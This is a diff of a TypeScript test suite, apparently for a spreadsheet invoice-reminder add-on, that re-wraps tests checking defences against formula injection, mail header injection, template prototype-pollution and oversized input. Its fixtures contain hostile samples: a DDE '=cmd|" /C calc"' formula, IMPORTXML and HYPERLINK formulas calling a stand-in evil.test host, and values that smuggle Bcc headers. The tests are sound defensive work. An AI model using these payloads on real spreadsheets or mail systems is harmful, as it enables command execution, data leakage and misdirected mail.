@@ -31,7 +31,9 @@ function formulas(t: T): string[] {
 
 function noHeaderBreaks(t: T): string[] {
   return t.runtime.mail.sent.flatMap((m) =>
-    [m.subject, m.name ?? '', m.replyTo ?? '', ...m.to, ...m.cc, ...m.bcc].filter((v) => /[\r\n\u2028\u2029\u0085]/.test(v)).map((v) => JSON.stringify(v)),
+    [m.subject, m.name ?? '', m.replyTo ?? '', ...m.to, ...m.cc, ...m.bcc]
+      .filter((v) => /[\r\n\u2028\u2029\u0085]/.test(v))
+      .map((v) => JSON.stringify(v)),
   );
 }
 
@@ -39,14 +41,25 @@ function noHeaderBreaks(t: T): string[] {
 
 describe('no user text ever becomes a formula', () => {
   const rows: Row[] = [
-    { invoice: '=1+1', client: '=HYPERLINK("http://evil.test","click")', contact: '=cmd|" /C calc"!A0', email: '=cmd@evil.test', due: addDays(TODAY, -1) },
+    {
+      invoice: '=1+1',
+      client: '=HYPERLINK("http://evil.test","click")',
+      contact: '=cmd|" /C calc"!A0',
+      email: '=cmd@evil.test',
+      due: addDays(TODAY, -1),
+    },
     { invoice: '+INV-2', client: '+SUM(1,2)', email: '+tag@client.test', due: addDays(TODAY, -7) },
     { invoice: '-INV-3', client: '-2+3', email: '-x@client.test', billing: '=ap@client.test', due: addDays(TODAY, -14) },
     { invoice: '@INV-4', client: '@SUM(A1)', email: 'a@client.test', billing: '+ap@client.test', due: addDays(TODAY, -21) },
     { invoice: '=NOW()', client: '=1/0', email: '=bad', due: addDays(TODAY, -1) }, // an error row quoting the text
     { invoice: "'quoted", client: "'=already text", email: 'q@client.test', due: addDays(TODAY, 5) },
   ];
-  const subjects = { reminder: '={{invoice}} {{client}}', firm: '+{{invoice}} {{client}}', escalate: '-{{invoice}} {{client}}', formal: '@{{invoice}} {{client}}' };
+  const subjects = {
+    reminder: '={{invoice}} {{client}}',
+    firm: '+{{invoice}} {{client}}',
+    escalate: '-{{invoice}} {{client}}',
+    formal: '@{{invoice}} {{client}}',
+  };
   const notes = ['=IMPORTXML("http://evil.test","//a")', '+1', '-1', '@me', '=HYPERLINK("http://evil.test")'];
   let t: T;
   const saved: unknown[] = [];
@@ -71,7 +84,12 @@ describe('no user text ever becomes a formula', () => {
   it('the run really did write every kind of text (templates saved, emails sent, notes recorded)', () => {
     expect(saved).toEqual([{ ok: true }, { ok: true }, { ok: true }, { ok: true }]);
     expect(disputes.map((d) => (d as { ok: boolean }).ok)).toEqual([true, true, true, true, true, true]);
-    expect(t.runtime.mail.sent.map((m) => m.subject).sort()).toEqual(['++INV-2 +SUM(1,2)', '--INV-3 -2+3', '==1+1 =HYPERLINK("http://evil.test","click")', '@@INV-4 @SUM(A1)']);
+    expect(t.runtime.mail.sent.map((m) => m.subject).sort()).toEqual([
+      '++INV-2 +SUM(1,2)',
+      '--INV-3 -2+3',
+      '==1+1 =HYPERLINK("http://evil.test","click")',
+      '@@INV-4 @SUM(A1)',
+    ]);
     expect(t.runtime.sheet('Dispute Notes').rows().length).toBe(1 + notes.length + 1);
   });
 
@@ -81,7 +99,12 @@ describe('no user text ever becomes a formula', () => {
 
   it('the text is kept exactly, as text', () => {
     const log = t.log();
-    expect(log.filter((r) => r.Result === 'sent').map((r) => [r.Invoice, r.Client, r.Subject]).sort()).toEqual(
+    expect(
+      log
+        .filter((r) => r.Result === 'sent')
+        .map((r) => [r.Invoice, r.Client, r.Subject])
+        .sort(),
+    ).toEqual(
       [
         ['+INV-2', '+SUM(1,2)', '++INV-2 +SUM(1,2)'],
         ['-INV-3', '-2+3', '--INV-3 -2+3'],
@@ -89,7 +112,11 @@ describe('no user text ever becomes a formula', () => {
         ['@INV-4', '@SUM(A1)', '@@INV-4 @SUM(A1)'],
       ].sort(),
     );
-    const noteCells = t.runtime.sheet('Dispute Notes').rows().slice(1).map((r) => [r[1], r[3]]);
+    const noteCells = t.runtime
+      .sheet('Dispute Notes')
+      .rows()
+      .slice(1)
+      .map((r) => [r[1], r[3]]);
     expect(noteCells).toEqual([...notes, '=2+2'].map((n) => ['+INV-2', n]));
     const s = t.statuses();
     expect(s['=NOW()']?.Status).toMatch(/^Error: Email '=bad' is not a valid address/);
@@ -109,14 +136,31 @@ describe('no mail header injection', () => {
     const t = setUp({
       today: TODAY,
       rows: [
-        { invoice: 'H-1', client: 'Acme\r\nBcc: evil@evil.test', contact: 'Pat\nCc: evil@evil.test', email: 'pat@client.test', due: addDays(TODAY, -1) },
+        {
+          invoice: 'H-1',
+          client: 'Acme\r\nBcc: evil@evil.test',
+          contact: 'Pat\nCc: evil@evil.test',
+          email: 'pat@client.test',
+          due: addDays(TODAY, -1),
+        },
         { invoice: 'H-2\r\nBcc: evil@evil.test', client: 'Beta', email: 'b@client.test', due: addDays(TODAY, -7) },
         { invoice: 'H-3', client: 'Gamma', email: 'g@client.test\r\nBcc: evil@evil.test', due: addDays(TODAY, -1) },
-        { invoice: 'H-4', client: 'Delta', email: 'd@client.test', billing: 'ap@client.test\nBcc: evil@evil.test', due: addDays(TODAY, -14) },
+        {
+          invoice: 'H-4',
+          client: 'Delta',
+          email: 'd@client.test',
+          billing: 'ap@client.test\nBcc: evil@evil.test',
+          due: addDays(TODAY, -14),
+        },
         { invoice: 'H-5', client: 'Eps\u2028ilon\u0085', contact: 'Eve\u2029', email: 'e@client.test', due: addDays(TODAY, -1) },
       ],
     });
-    expect(run(t, 'saveTemplate', 'reminder', { subject: 'Invoice {{invoice}} for {{client}} ({{contact_name}})', body: 'Hi {{client}}, {{balance}}. {{sender_name}}' })).toEqual({ ok: true });
+    expect(
+      run(t, 'saveTemplate', 'reminder', {
+        subject: 'Invoice {{invoice}} for {{client}} ({{contact_name}})',
+        body: 'Hi {{client}}, {{balance}}. {{sender_name}}',
+      }),
+    ).toEqual({ ok: true });
     t.daily();
     expect(noHeaderBreaks(t)).toEqual([]);
     expect(t.runtime.mail.sent.flatMap((m) => [...m.to, ...m.cc, ...m.bcc]).filter((a) => /evil/.test(a))).toEqual([]);
@@ -141,7 +185,9 @@ describe('no mail header injection', () => {
     const settings = run(t, 'getSidebarData').settings as Record<string, unknown>;
     const r = run(t, 'saveSettings', { ...settings, senderName });
     expect(r.ok).toBe(false);
-    expect(r.problems.join(' ')).toMatch(/^Sender name must be plain text of at most 100 characters \(no line breaks, quotes or angle brackets\)\.?$/);
+    expect(r.problems.join(' ')).toMatch(
+      /^Sender name must be plain text of at most 100 characters \(no line breaks, quotes or angle brackets\)\.?$/,
+    );
     expect(run(t, 'getSidebarData').settings.senderName).toBe('Sam Rivera');
     t.daily();
     expect(t.runtime.mail.sent.map((m) => m.name)).toEqual(['Sam Rivera']);
@@ -155,7 +201,11 @@ describe('no mail header injection', () => {
     t.daily();
     expect(t.runtime.mail.sent).toEqual([]); // nothing goes out unsigned or with the damaged name
     expect(t.statuses()['S-1']?.Status).toMatch(/^Error: The reminder email needs a sender name/);
-    expect(JSON.parse(t.runtime.properties.document().get('lastRun')!).warnings).toEqual([expect.stringMatching(/^Saved settings had a value that is not valid \(Sender name must be plain text.*the default is used for: your name for the emails/)]);
+    expect(JSON.parse(t.runtime.properties.document().get('lastRun')!).warnings).toEqual([
+      expect.stringMatching(
+        /^Saved settings had a value that is not valid \(Sender name must be plain text.*the default is used for: your name for the emails/,
+      ),
+    ]);
   });
 
   it('a template subject on two lines is refused', () => {
@@ -192,7 +242,10 @@ describe('templates cannot reach anything but the documented placeholders', () =
 
   it.each(CASES)('%s in a message is refused by saveTemplate with a plain message', (placeholder, message) => {
     const t = setUp({ today: TODAY, rows: [] });
-    const r = run(t, 'saveTemplate', 'firm', { subject: 'Invoice {{invoice}}', body: `Hello, {{balance}} please. ${placeholder}` });
+    const r = run(t, 'saveTemplate', 'firm', {
+      subject: 'Invoice {{invoice}}',
+      body: `Hello, {{balance}} please. ${placeholder}`,
+    });
     expect(r.ok).toBe(false);
     expect(r.problems[0]).toMatch(message);
     expect(r.problems.join(' ')).not.toMatch(/function|\[object|undefined|native code|Exception|Error/);
@@ -202,12 +255,20 @@ describe('templates cannot reach anything but the documented placeholders', () =
   it('the same names in a subject are refused too', () => {
     const t = setUp({ today: TODAY, rows: [] });
     const r = run(t, 'saveTemplate', 'firm', { subject: 'Invoice {{__proto__}} {{constructor}}', body: 'Hi {{invoice}}' });
-    expect(r).toEqual({ ok: false, problems: ['Subject: Unknown placeholder {{__proto__}}', 'Subject: Unknown placeholder {{constructor}}'] });
+    expect(r).toEqual({
+      ok: false,
+      problems: ['Subject: Unknown placeholder {{__proto__}}', 'Subject: Unknown placeholder {{constructor}}'],
+    });
   });
 
   it('a template smuggled into the saved properties is not used: the default goes out, with a warning', () => {
     const t = setUp({ today: TODAY, rows: [{ invoice: 'P-1', due: addDays(TODAY, -1) }] });
-    t.runtime.properties.document().set('template:reminder', JSON.stringify({ version: 1, subject: 'Invoice {{constructor}}', body: '{{__proto__}} {{toString}} {{invoice}}' }));
+    t.runtime.properties
+      .document()
+      .set(
+        'template:reminder',
+        JSON.stringify({ version: 1, subject: 'Invoice {{constructor}}', body: '{{__proto__}} {{toString}} {{invoice}}' }),
+      );
     t.daily();
     const [mail] = t.runtime.mail.sent;
     expect(mail?.subject).toBe('Invoice P-1 from Sam Rivera');
@@ -223,10 +284,26 @@ describe('oversized templates, notes and settings are refused in words before Ap
   const t = setUp({ today: TODAY, rows: [{ invoice: 'O-1', due: addDays(TODAY, -1) }] });
 
   it.each([
-    ['a 20,001-character message', { subject: 'Invoice {{invoice}}', body: 'x'.repeat(20_001) }, /longer than 20,000 characters|too large to save/],
-    ['a 9,500-character message (over the 9 KB property limit)', { subject: 'Invoice {{invoice}}', body: `${'x'.repeat(9_500)} {{invoice}}` }, /too large to save \(9\.\d KB; the limit is 9 KB\)/],
-    ['4,000 euro signs (12 KB in UTF-8)', { subject: 'Invoice {{invoice}}', body: `${'€'.repeat(4_000)} {{invoice}}` }, /too large to save \(1\d\.\d KB; the limit is 9 KB\)/],
-    ['a 251-character subject', { subject: `Invoice {{invoice}} ${'s'.repeat(240)}`, body: 'Hi' }, /The subject is longer than 250 characters/],
+    [
+      'a 20,001-character message',
+      { subject: 'Invoice {{invoice}}', body: 'x'.repeat(20_001) },
+      /longer than 20,000 characters|too large to save/,
+    ],
+    [
+      'a 9,500-character message (over the 9 KB property limit)',
+      { subject: 'Invoice {{invoice}}', body: `${'x'.repeat(9_500)} {{invoice}}` },
+      /too large to save \(9\.\d KB; the limit is 9 KB\)/,
+    ],
+    [
+      '4,000 euro signs (12 KB in UTF-8)',
+      { subject: 'Invoice {{invoice}}', body: `${'€'.repeat(4_000)} {{invoice}}` },
+      /too large to save \(1\d\.\d KB; the limit is 9 KB\)/,
+    ],
+    [
+      'a 251-character subject',
+      { subject: `Invoice {{invoice}} ${'s'.repeat(240)}`, body: 'Hi' },
+      /The subject is longer than 250 characters/,
+    ],
     ['a 50,000-character subject', { subject: 's'.repeat(50_000), body: 'Hi' }, /The subject is longer than 250 characters/],
   ])('template: %s', (_what, template, message) => {
     const r = run(t, 'saveTemplate', 'reminder', template);
@@ -249,7 +326,10 @@ describe('oversized templates, notes and settings are refused in words before Ap
   ])('dispute note of %s is refused in words; nothing is written', (_what, note) => {
     const before = t.runtime.hasSheet('Dispute Notes') ? t.runtime.sheet('Dispute Notes').lastRow() : 0;
     const r = run(t, 'recordDispute', 'open', 'O-1', note);
-    expect(r).toEqual({ ok: false, problems: [expect.stringMatching(/^The note is too long \(\d+ characters; the limit is 2000\)\.$/)] });
+    expect(r).toEqual({
+      ok: false,
+      problems: [expect.stringMatching(/^The note is too long \(\d+ characters; the limit is 2000\)\.$/)],
+    });
     expect(t.runtime.hasSheet('Dispute Notes') ? t.runtime.sheet('Dispute Notes').lastRow() : 0).toBe(before);
   });
 
@@ -299,9 +379,15 @@ describe('logs carry no email addresses or amounts', () => {
     expect(t.runtime.mail.sent.length).toBeGreaterThan(10);
     const messages = t.runtime.logs.map((l) => `${l.source}.${l.level}: ${l.message}`);
     // The faults above make the add-on log (so this check is not vacuous).
-    expect(messages).toEqual(expect.arrayContaining([expect.stringMatching(/^console\.error: Could not record the run outcome/), expect.stringMatching(/^console\.error: Daily follow-ups: the spreadsheet/)]));
+    expect(messages).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^console\.error: Could not record the run outcome/),
+        expect.stringMatching(/^console\.error: Daily follow-ups: the spreadsheet/),
+      ]),
+    );
     const ADDRESS = /[^\s@<>"']+@[^\s@<>"']+\.[a-z]{2,}/i;
-    const MONEY = /[$€£¥]\s?\d|\d\s?[$€£¥]|\b\d{1,3}(,\d{3})+(\.\d+)?\b|\b\d+\.\d{2}\b|\b(USD|EUR|GBP)\s?\d|\b(2400|800|3000|2000|1000|500|120|9000|700)\b/;
+    const MONEY =
+      /[$€£¥]\s?\d|\d\s?[$€£¥]|\b\d{1,3}(,\d{3})+(\.\d+)?\b|\b\d+\.\d{2}\b|\b(USD|EUR|GBP)\s?\d|\b(2400|800|3000|2000|1000|500|120|9000|700)\b/;
     expect(messages.filter((m) => ADDRESS.test(m) || MONEY.test(m))).toEqual([]);
     expect(MONTH_DAYS).toBeGreaterThanOrEqual(30);
     expect(START).toBe('2026-11-02');
@@ -320,7 +406,7 @@ describe('dist/appsscript.json', () => {
     return [...section.matchAll(/^\|\s*`([^`]+)`\s*\|/gm)].map((m) => `https://www.googleapis.com/auth/${m[1]}`);
   }
 
-  it('declares exactly the scopes the README\'s permissions table lists', () => {
+  it("declares exactly the scopes the README's permissions table lists", () => {
     const listed = readmeScopes();
     expect(listed.length).toBeGreaterThanOrEqual(3);
     expect([...(manifest.oauthScopes ?? [])].sort()).toEqual([...listed].sort());
